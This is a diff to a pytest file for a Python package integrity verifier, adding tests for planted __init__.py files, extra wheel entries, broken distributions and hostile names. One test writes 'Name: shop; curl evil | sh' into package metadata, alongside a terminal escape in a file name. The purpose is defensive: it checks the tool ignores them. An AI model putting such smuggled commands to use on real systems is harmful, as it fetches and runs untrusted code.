@@ -3,9 +3,11 @@
 import importlib.machinery
 import importlib.util
 import json
+import os
 import py_compile
 import shutil
 import subprocess
+import sys
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -40,7 +42,7 @@ def installed(shop: Site) -> Site:
 @pytest.mark.parametrize("arguments", [(), ("shop",), ("Shop",)])
 def test_what_is_whole_is_said_to_be(installed: Site, arguments: tuple[str, ...]) -> None:
     done = verify(installed, *arguments)
-    assert done.stdout == "ok  shop 1.0  3 files  integrity only: no key is trusted\n"
+    assert done.stdout == f"ok  shop 1.0  4 files  integrity only: no key is trusted  in {installed.path}\n"
     assert (done.stderr, done.returncode) == ("", 0)
 
 
@@ -113,7 +115,7 @@ def test_several_packages_of_one_distribution_are_each_verified(installed: Site)
     installed.bake("", {"calc/f": ""}, specs=("calc.py",))
     install(installed)
     done = verify(installed, "shop")
-    assert (done.returncode, done.stdout.count("ok  shop 1.0  3 files")) == (0, 2)
+    assert (done.returncode, done.stdout.count("ok  shop 1.0  ")) == (0, 2)
 
 
 @pytest.mark.parametrize("name", ["shop/pricing.py", "shop/_vibesafe/pricing__total.py", "shop/_vibesafe/__init__.py"])
@@ -173,6 +175,75 @@ def test_what_shadows_a_single_module_in_a_wheel_is_a_finding(site: Site) -> Non
         assert "would be imported in the place of calc.py" in verify(site, name).stderr
 
 
+def test_an_init_that_was_put_into_a_namespace_package_is_a_finding(site: Site) -> None:
+    site.write("ns/shop/__init__.py", "")
+    site.write("ns/shop/pricing.py", STUB)
+    site.bake("ns.shop", {"ns.shop.pricing/total": IMPLEMENTATION}, specs=("ns/shop/pricing.py",))
+    install(site)
+    assert verify(site).returncode == verify(site, str(wheel_of(site))).returncode == 0
+    site.write("ns/__init__.py", "print('planted')")
+    for arguments in ((), (str(wheel_of(site)),)):
+        done = verify(site, *arguments)
+        assert (done.returncode, "ns/__init__.py" in done.stderr) == (1, True)
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("shop/__pycache__/pricing.cpython-399.pyc", "would be imported in the place of pricing.py"),
+        ("shop-1.0.data/data/lib/python3.12/site-packages/shop/pricing.py", "behind the wheel's own"),
+    ],
+)
+def test_a_wheel_that_brings_more_than_it_says_is_a_finding(installed: Site, name: str, words: str) -> None:
+    path = wheel_of(installed)
+    assert verify(installed, str(path)).returncode == 0
+    with zipfile.ZipFile(path, "a") as wheel:
+        wheel.writestr(name, "evil")
+    done = verify(installed, str(path))
+    assert (done.returncode, words in done.stderr) == (1, True)
+
+
+def test_a_baked_package_that_is_left_out_is_a_finding(installed: Site) -> None:
+    def name_another(files: dict[str, bytes]) -> None:
+        head, name, rest = files[STATEMENT].partition(b'"manifestWithoutStatement":')
+        files[STATEMENT] = head + name + rest.replace(b"}", b',"packages":["other/_vibesafe","shop/_vibesafe"]}', 1)
+
+    rewrite(installed, name_another)
+    for arguments in (("shop",), (str(wheel_of(installed)),)):
+        done = verify(installed, *arguments)
+        assert (done.returncode, "other/_vibesafe" in done.stderr) == (1, True)
+
+
+def test_a_broken_distribution_does_not_keep_the_others_from_being_verified(installed: Site) -> None:
+    (installed.path / "broken-1.0.dist-info").mkdir()
+    done = verify(installed)
+    assert (done.returncode, done.stdout.startswith("ok  shop")) == (0, True), done.stderr
+
+
+def test_names_that_steer_a_terminal_or_a_shell_are_shown_and_not_obeyed(installed: Site) -> None:
+    installed.write("shop/_vibesafe/x\x1b[2J", "")
+    metadata = installed.path / "shop-1.0.dist-info" / "METADATA"
+    metadata.write_text(metadata.read_text().replace("Name: shop", "Name: shop; curl evil | sh"))
+    done = verify(installed)
+    assert done.returncode == 1
+    assert "\x1b" not in done.stderr
+    assert "curl" not in done.stdout + done.stderr
+
+
+@pytest.mark.parametrize("argument", ["", "dist", "x.tar.gz"])
+def test_what_is_neither_a_distribution_nor_a_wheel_is_never_taken_for_all(installed: Site, argument: str) -> None:
+    done = verify(installed, argument)
+    assert (done.returncode, done.stdout) == (2, "")
+    assert "name an installed distribution" in done.stderr
+
+
+def test_a_pipe_that_closes_is_no_traceback(installed: Site) -> None:
+    command = f"{sys.executable} -S -m vibesafe_runtime verify | head -c 0; exit ${{PIPESTATUS[0]}}"
+    environment = {"PYTHONPATH": f"{installed.path}:{installed.path.parent / 'runtime'}", "PATH": os.environ["PATH"]}
+    done = subprocess.run(["bash", "-c", command], env=environment, capture_output=True, text=True, check=False)
+    assert "Traceback" not in done.stderr
+
+
 def test_what_only_stands_beside_a_module_is_no_finding(installed: Site) -> None:
     installed.write("shop/pricing/data.txt", "")
     installed.write("shop/rates.py", "")
@@ -201,10 +272,10 @@ def test_a_signature_is_verified_with_the_key_that_is_named(site: Site) -> None:
     trusted = site.write("../keys", f"# ours\n{key.text}\n")
     for named in (key.text, str(trusted)):
         done = verify(site, "--key", named, "shop")
-        assert done.stdout == f"ok  shop 1.0  4 files  signed by {key_id(key.public)}\n", done.stderr
+        assert done.stdout == f"ok  shop 1.0  5 files  signed by {key_id(key.public)}  in {site.path}\n", done.stderr
     done = site.python("-m", "vibesafe_runtime", "verify", env={"VIBESAFE_TRUSTED_KEYS": key.text})
     assert "signed by" in done.stdout
-    assert verify(site).stdout.endswith("integrity only: no key is trusted\n")
+    assert "integrity only: no key is trusted" in verify(site).stdout
     done = verify(site, "--key", Key().text)
     assert (done.returncode, done.stdout.strip()) == (1, "")
     assert "not trusted here" in done.stderr
@@ -225,7 +296,7 @@ def test_a_key_that_cannot_be_used_is_exit_2(installed: Site, named: str) -> Non
 def test_a_wheel_is_verified_before_it_is_installed(installed: Site) -> None:
     wheel = wheel_of(installed)
     done = verify(installed, str(wheel))
-    assert (done.returncode, done.stdout) == (0, f"ok  {wheel.name}  3 files  integrity only: no key is trusted\n")
+    assert (done.returncode, done.stdout) == (0, f"ok  {wheel.name}  4 files  integrity only: no key is trusted\n")
 
 
 @pytest.mark.parametrize("name", ["pricing__total.py", "statement.json", "MANIFEST", "__init__.py", "../pricing.py"])
@@ -285,7 +356,7 @@ def test_the_report_for_programs_says_the_same(installed: Site) -> None:
     done = verify(installed, "--json", "shop")
     document = json.loads(done.stdout)
     assert (done.returncode, document["ok"], document["checked"]) == (0, True, "integrity only")
-    assert document["packages"][0]["files"] == 3
+    assert document["packages"][0]["files"] == 4
     installed.write("shop/_vibesafe/pricing__total.py", "")
     done = verify(installed, "--json", "shop")
     document = json.loads(done.stdout)
